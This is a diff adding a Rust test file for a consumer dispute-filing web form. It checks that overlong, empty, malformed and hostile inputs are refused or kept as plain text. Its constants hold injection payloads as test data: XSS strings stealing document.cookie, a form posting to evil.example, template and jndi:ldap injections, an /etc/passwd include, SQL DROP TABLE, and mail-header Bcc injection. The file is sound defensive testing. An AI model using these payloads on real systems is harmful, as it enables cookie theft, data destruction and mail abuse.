@@ -1,0 +1,478 @@
+//! What people and programs type into fields: too much, nothing, the wrong
+//! kind, and what tries to be something else. Nothing of it is filed that
+//! shouldn't be, nothing of it gets lost, and none of it becomes part of a
+//! page or of a mail's headers.
+
+use tests::{Browser, Dispute, Mail, Page, World, fill_in};
+
+/// Texts that are odd, or that try to be more than text.
+const ODD: [&str; 12] = [
+    "bel\u{7}\u{0}\u{1B}[31mrood",
+    "regel\r\nBcc: iedereen@mailbox.example\r\n\r\nHallo",
+    "😡👩‍👩‍👧‍👦🇳🇱",
+    "الطلب لم يصل أبدًا",
+    "\u{202E}elpmis ton\u{202C}",
+    "<script>alert(document.cookie)</script>",
+    "\"><img src=x onerror=alert(1)>",
+    "</textarea><form action=//evil.example>",
+    "{{ 7*7 }} {% include '/etc/passwd' %} ${jndi:ldap://x}",
+    "' OR 1=1; DROP TABLE cases; --",
+    "[klik](http://evil.example) **vet** # kop",
+    "a\u{301}\u{301}\u{301}ﷺ\u{FFFD}\u{FEFF}",
+];
+
+const MAILS: [&str; 10] = [
+    "emre",
+    "emre@",
+    "emre@mailbox",
+    "emre@mailbox.example\r\nBcc: x@evil.example",
+    "emre@mailbox.example, x@evil.example",
+    "emre@mailbox.example x@evil.example",
+    "Emre <emre@mailbox.example>",
+    "\"emre voorbeeld\"@mailbox.example",
+    "émre@mailbox.example",
+    "emre@[127.0.0.1]",
+];
+
+const AMOUNTS: [&str; 10] = [
+    "veel",
+    "-5",
+    "1e9",
+    "NaN",
+    "12,34,5",
+    "219,9,5",
+    "٢١٩",
+    "$ 5",
+    "0x10",
+    "99999999999999999999999",
+];
+
+const DATES: [[&str; 3]; 8] = [
+    ["31", "2", "2026"],
+    ["0", "1", "2026"],
+    ["1", "13", "2026"],
+    ["een", "mei", "dit jaar"],
+    ["1.5", "6", "2026"],
+    ["-1", "-1", "-1"],
+    ["99999999999", "6", "2026"],
+    ["1", "6", ""],
+];
+
+/// A form that is wholly filled in, so that each page can be opened.
+fn filled_in(world: &World) -> Browser {
+    let mut browser = world.browser();
+    fill_in(&mut browser, &Dispute::default());
+    browser
+}
+
+/// What a browser shows of a value: line ends as one kind, no NUL.
+fn shown(value: &str) -> String {
+    value.replace("\r\n", "\n").replace('\0', "\u{FFFD}")
+}
+
+/// Typed words stand where they were typed, and nowhere as anything else.
+fn assert_kept(page: &Page, step: &str, fields: &[(&str, &str)]) {
+    for (name, value) in fields {
+        // No radio button stands for a word that is no answer.
+        if !matches!(*name, "problem" | "remedy" | "told") {
+            let kept = page.form(step);
+            let kept = kept.value(name).map(shown);
+            assert_eq!(kept, Some(shown(value)), "{step}: {name}");
+        }
+    }
+    assert_harmless(page);
+}
+
+fn assert_harmless(page: &Page) {
+    assert!(!page.has("main script, main img, main [onerror], a[href*=evil]"));
+    assert!(!page.has("form[action*=evil], iframe, object"));
+}
+
+/// Sends these to a page of the form, which comes back with what was typed,
+/// also after a reload. Then puts right what was there.
+fn comes_back(browser: &mut Browser, step: &str, fields: &[(&str, &str)]) -> Page {
+    let good = browser.open(&format!("/file/{step}")).form(step);
+    let page = good.clone().fill_all(fields).send(browser);
+    assert_eq!(page.status, 422, "{step}: {fields:?}");
+    assert!(!page.errors().is_empty(), "{step}: {fields:?}");
+    assert_kept(&page, step, fields);
+    assert_kept(&browser.open(&format!("/file/{step}")), step, fields);
+    let filed = browser.post("/file/check", &[]);
+    assert_eq!(
+        filed.path(),
+        format!("/file/{step}"),
+        "nothing wrong is filed"
+    );
+    good.send(browser);
+    page
+}
+
+#[test]
+fn a_field_that_is_too_long_comes_back_whole() {
+    let world = World::unswept();
+    let mut browser = filled_in(&world);
+    for (step, name, most) in [
+        ("order", "order-number", 60),
+        ("story", "story", 10_000),
+        ("solution", "remedy-words", 1_000),
+        ("told", "told-how", 200),
+        ("contact", "name", 100),
+        ("contact", "phone", 30),
+        ("contact", "mail", 254),
+    ] {
+        let long = "é".repeat(most + 1);
+        let page = match step {
+            "solution" => comes_back(&mut browser, step, &[("remedy", "other"), (name, &long)]),
+            _ => comes_back(&mut browser, step, &[(name, &long)]),
+        };
+        assert!(
+            page.errors()[0].contains(&most.to_string()),
+            "{:?}",
+            page.errors()
+        );
+    }
+    assert_eq!(world.all_mails().len(), 0);
+    world.assert_settled(&[]);
+}
+
+#[test]
+fn a_field_as_long_as_it_may_be_is_taken() {
+    let world = World::unswept();
+    let mut browser = filled_in(&world);
+    for (step, name, most) in [
+        ("order", "order-number", 60),
+        ("story", "story", 10_000),
+        ("told", "told-how", 200),
+        ("contact", "name", 100),
+    ] {
+        let form = browser.open(&format!("/file/{step}?change=1")).form(step);
+        let page = form.fill(name, &"é".repeat(most)).send(&mut browser);
+        assert_eq!(page.path(), "/file/check", "{step}: {name}");
+    }
+    let sent = browser.post("/file/check", &[]);
+    assert_eq!(sent.status, 200);
+    assert_eq!(world.all_mails().len(), 2);
+    world.assert_settled(&["shop-term"]);
+}
+
+#[test]
+fn a_field_that_needs_an_answer_is_not_left_empty() {
+    let world = World::unswept();
+    let mut browser = filled_in(&world);
+    for blank in ["", " \t\r\n ", "\u{200B}\u{2060}"] {
+        for (step, fields) in [
+            ("order", &[("order-number", blank)][..]),
+            ("order", &[("amount", blank)]),
+            ("story", &[("story", blank)]),
+            (
+                "solution",
+                &[("remedy", "part-of-money-back"), ("remedy-amount", blank)],
+            ),
+            ("solution", &[("remedy", "other"), ("remedy-words", blank)]),
+            ("told", &[("told", "yes"), ("told-how", blank)]),
+            ("contact", &[("name", blank)]),
+            ("contact", &[("mail", blank)]),
+        ] {
+            comes_back(&mut browser, step, fields);
+        }
+    }
+    for step in ["problem", "order", "story", "solution", "told", "contact"] {
+        let mut fresh = filled_in(&world);
+        let empty: Vec<(String, String)> = fresh.open(&format!("/file/{step}")).form(step).fields;
+        let empty: Vec<(&str, &str)> = empty.iter().map(|(name, _)| (name.as_str(), "")).collect();
+        let page = fresh.post(&format!("/file/{step}"), &empty);
+        assert_eq!(page.status, 422, "{step}");
+        assert!(!page.errors().is_empty());
+    }
+    assert_eq!(world.all_mails().len(), 0);
+    world.assert_settled(&[]);
+}
+
+#[test]
+fn an_answer_of_the_wrong_kind_comes_back() {
+    let world = World::unswept();
+    let mut browser = filled_in(&world);
+    for word in ["stolen", "Late", "late ", "0", "<b>"] {
+        for (step, name) in [
+            ("problem", "problem"),
+            ("solution", "remedy"),
+            ("told", "told"),
+        ] {
+            comes_back(&mut browser, step, &[(name, word)]);
+        }
+    }
+    for amount in AMOUNTS {
+        comes_back(&mut browser, "order", &[("amount", amount)]);
+        comes_back(&mut browser, "solution", &[("remedy-amount", amount)]);
+    }
+    for mail in MAILS {
+        comes_back(&mut browser, "contact", &[("mail", mail)]);
+    }
+    assert_eq!(browser.open("/file/check").path(), "/file/check");
+    assert_eq!(world.all_mails().len(), 0);
+    world.assert_settled(&[]);
+}
+
+#[test]
+fn a_day_that_is_none_or_cannot_be_comes_back() {
+    let world = World::unswept();
+    let mut browser = filled_in(&world);
+    let tomorrow = ["21", "11", "2026"];
+    let others = [
+        ["1", "1", "2030"],
+        ["1", "1", "1999"],
+        ["1", "1", "26"],
+        tomorrow,
+    ];
+    for [day, month, year] in DATES.into_iter().chain(others) {
+        for (step, names) in [
+            ("order", ["order-day", "order-month", "order-year"]),
+            ("told", ["told-day", "told-month", "told-year"]),
+        ] {
+            let fields = [(names[0], day), (names[1], month), (names[2], year)];
+            comes_back(&mut browser, step, &fields);
+        }
+    }
+    world.assert_settled(&[]);
+}
+
+#[test]
+fn odd_texts_are_kept_as_texts_on_every_page_of_the_form() {
+    let world = World::unswept();
+    let mut browser = filled_in(&world);
+    for odd in ODD {
+        for (step, name) in [
+            ("order", "order-number"),
+            ("story", "story"),
+            ("told", "told-how"),
+            ("contact", "name"),
+            ("contact", "phone"),
+            ("order", "amount"),
+            ("order", "order-day"),
+            ("contact", "mail"),
+        ] {
+            let form = browser.open(&format!("/file/{step}")).form(step);
+            form.clone().fill(name, odd).send(&mut browser);
+            let again = browser.open(&format!("/file/{step}"));
+            assert_kept(&again, step, &[(name, odd)]);
+            form.send(&mut browser);
+        }
+        let page = browser.post("/file/shop", &[("shop", odd)]);
+        assert_eq!(page.status, 422);
+        assert_harmless(&page);
+        let page = browser.post("/file/problem", &[("problem", odd)]);
+        assert_eq!(page.status, 422);
+        browser.post("/file/problem", &[("problem", "late")]);
+        let query = form_urlencoded_of(odd);
+        assert_harmless(&browser.open(&format!("/file/shop?q={query}")));
+    }
+    world.assert_settled(&[]);
+}
+
+fn form_urlencoded_of(text: &str) -> String {
+    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
+}
+
+/// One line a header, to one person, with nothing slipped in.
+fn assert_is_one_honest_mail(mail: &Mail, to: &str) {
+    assert_eq!(mail.to, to);
+    for (name, value) in &mail.headers {
+        assert!(!value.contains(['\r', '\n']), "{name}: {value:?}");
+        assert!(!["bcc", "cc"].contains(&&*name.to_lowercase()), "{name}");
+    }
+    assert!(!mail.subject.contains(['\r', '\n']), "{:?}", mail.subject);
+    for part in [
+        "<script",
+        "<img src=x",
+        "<form action",
+        "href=\"http://evil",
+    ] {
+        assert!(!mail.html.contains(part), "{part}");
+    }
+}
+
+#[test]
+fn an_odd_complaint_goes_its_way_and_harms_nobody() {
+    for odd in ODD {
+        let world = World::unswept();
+        let dispute = Dispute {
+            order: odd,
+            story: odd,
+            remedy: ("other", odd),
+            told: Some((["12", "7", "2026"], odd)),
+            name: odd,
+            ..Dispute::default()
+        };
+        let (mut consumer, mut shop) = world.both_sides(&dispute);
+        assert_eq!(consumer.sent.status, 200, "{odd}");
+        shop.answers("message", &[("text", odd)]);
+        shop.offers(odd, "", ["30", "11", "2026"]);
+        consumer.sends("/message", &[("text", odd)]);
+        consumer.answers_the_offer("decline");
+        shop.answers("refuse", &[("text", odd)]);
+        consumer.sends("/withdraw", &[("text", odd)]);
+        let mut runs = odd.split(|c: char| !c.is_alphabetic());
+        let letters = runs.find(|run| !run.is_empty()).unwrap_or_default();
+        for (mut browser, mail) in [
+            (consumer.browser.clone(), consumer.mail.clone()),
+            (shop.browser.clone(), shop.mail.clone()),
+        ] {
+            let mails = world.mails(&mail);
+            for mail in &mails {
+                assert_is_one_honest_mail(mail, &mail.to);
+            }
+            let page = browser.open(&mails[0].case_link());
+            assert_harmless(&page);
+            for entry in page.history() {
+                for words in &entry.words {
+                    assert!(words.contains(letters), "{words:?} of {odd:?}");
+                    assert!(!words.contains(['\u{202E}', '\0', '\u{1B}']));
+                }
+            }
+        }
+        let (mine, theirs) = (consumer.mails().len(), shop.mails().len());
+        assert_eq!(
+            world.all_mails().len(),
+            mine + theirs,
+            "nobody else gets mail"
+        );
+        world.assert_settled(&[]);
+    }
+}
+
+#[test]
+fn a_wrong_answer_of_the_shop_comes_back_and_nothing_is_stored() {
+    let world = World::unswept();
+    let (_, mut shop) = world.both_sides(&Dispute::default());
+    let before = world.traces();
+    let long = "x".repeat(10_001);
+    let offer = |amount, [day, month, year]: [&'static str; 3]| {
+        vec![
+            ("text", "De helft terug."),
+            ("amount", amount),
+            ("day", day),
+            ("month", month),
+            ("year", year),
+        ]
+    };
+    let good = ["30", "11", "2026"];
+    let mut wrong = vec![("offer", vec![("text", ""), ("day", "30")])];
+    for answer in ["message", "offer", "solved", "refuse"] {
+        wrong.push((answer, vec![("text", " \r\n\t")]));
+        wrong.push((answer, vec![("text", &long)]));
+    }
+    wrong.extend(AMOUNTS.map(|amount| ("offer", offer(amount, good))));
+    wrong.extend(DATES.map(|date| ("offer", offer("110", date))));
+    wrong.push(("offer", offer("110", ["19", "11", "2026"])));
+    wrong.push(("offer", offer("110", ["1", "1", "2999"])));
+    for (answer, fields) in wrong {
+        let form = shop.answer_form(answer).fill_all(&fields);
+        let page = form.send(&mut shop.browser);
+        assert_eq!(page.status, 422, "{answer}: {fields:?}");
+        assert!(!page.errors().is_empty() && page.has("details[open]"));
+        let mut forms = page.forms("/answer").into_iter();
+        let kept = forms.find(|form| form.value("answer") == Some(answer));
+        for (name, value) in &fields {
+            let kept = kept.as_ref().and_then(|form| form.value(name)).map(shown);
+            assert_eq!(kept, Some(shown(value)), "{answer}: {name}");
+        }
+    }
+    assert_eq!(world.traces(), before);
+    world.assert_settled(&["shop-term"]);
+}
+
+#[test]
+fn a_wrong_message_or_reason_of_the_consumer_comes_back_and_nothing_is_stored() {
+    let world = World::unswept();
+    let (mut consumer, _) = world.both_sides(&Dispute::default());
+    let before = world.traces();
+    let long = "é".repeat(10_001);
+    for (action, text) in [("/message", ""), ("/message", &long), ("/withdraw", &long)] {
+        let page = consumer.sends(action, &[("text", text)]);
+        assert_eq!(page.status, 422, "{action}");
+        assert_eq!(page.form(action).value("text"), Some(text));
+        assert_eq!(page.errors().len(), 1);
+    }
+    assert_eq!(world.traces(), before);
+    world.assert_settled(&["shop-term"]);
+}
+
+#[test]
+fn what_no_form_of_ours_sends_is_refused_and_nothing_is_stored() {
+    let world = World::unswept();
+    let (mut consumer, shop) = world.both_sides_after_seven_days(&Dispute::default());
+    let (mine, theirs) = (consumer.case_link(), shop.newest_mail().case_link());
+    let before = world.traces();
+    let words = [
+        "",
+        "x",
+        "-1",
+        "1.5",
+        " 1",
+        "99999999999999999999999999",
+        "<b>",
+        "\0",
+        "🎈",
+    ];
+    for word in words {
+        for (link, action, fields) in [
+            (
+                &theirs,
+                "answer",
+                &[
+                    ("text", "Hallo."),
+                    ("answer", "message"),
+                    ("submission", word),
+                ][..],
+            ),
+            (
+                &theirs,
+                "answer",
+                &[("text", "Hallo."), ("answer", word), ("submission", "1")],
+            ),
+            (
+                &mine,
+                "message",
+                &[("text", "Hallo."), ("submission", word)],
+            ),
+            (&mine, "offer", &[("offer", word), ("answer", "accept")]),
+            (&mine, "offer", &[("offer", "3"), ("answer", word)]),
+            (&mine, "choice", &[("choice", word), ("round", "1")]),
+            (&mine, "choice", &[("choice", "mediation"), ("round", word)]),
+            (&mine, "performance", &[("performed", word)]),
+        ] {
+            let page = consumer.browser.post(&format!("{link}/{action}"), fields);
+            assert_eq!(page.status, 400, "{action}: {fields:?}");
+            assert!(page.has("main a[href]"));
+        }
+    }
+    for action in ["answer", "message", "offer", "choice", "performance"] {
+        let link = if action == "answer" { &theirs } else { &mine };
+        let page = consumer.browser.post(&format!("{link}/{action}"), &[]);
+        assert_eq!(page.status, 400, "{action} without a field");
+    }
+    assert_eq!(world.traces(), before);
+    world.assert_settled(&["first-reminder", "second-reminder", "choice-lapse"]);
+}
+
+#[test]
+fn what_does_not_fit_the_stage_changes_nothing_and_says_so() {
+    let world = World::unswept();
+    let (mut consumer, _) = world.both_sides(&Dispute::default());
+    let mine = consumer.case_link();
+    let before = world.traces();
+    for (action, fields) in [
+        ("offer", &[("offer", "99"), ("answer", "accept")][..]),
+        ("offer", &[("offer", "1"), ("answer", "decline")]),
+        ("choice", &[("choice", "mediation"), ("round", "1")]),
+        ("choice", &[("choice", "working"), ("round", "7")]),
+        ("reopen", &[]),
+        ("performance", &[("performed", "yes")]),
+    ] {
+        let page = consumer.browser.post(&format!("{mine}/{action}"), fields);
+        assert_eq!(page.status, 200, "{action}");
+        assert!(!page.notice().is_empty(), "{action}");
+    }
+    assert_eq!(world.traces(), before);
+    world.assert_settled(&["shop-term"]);
+}
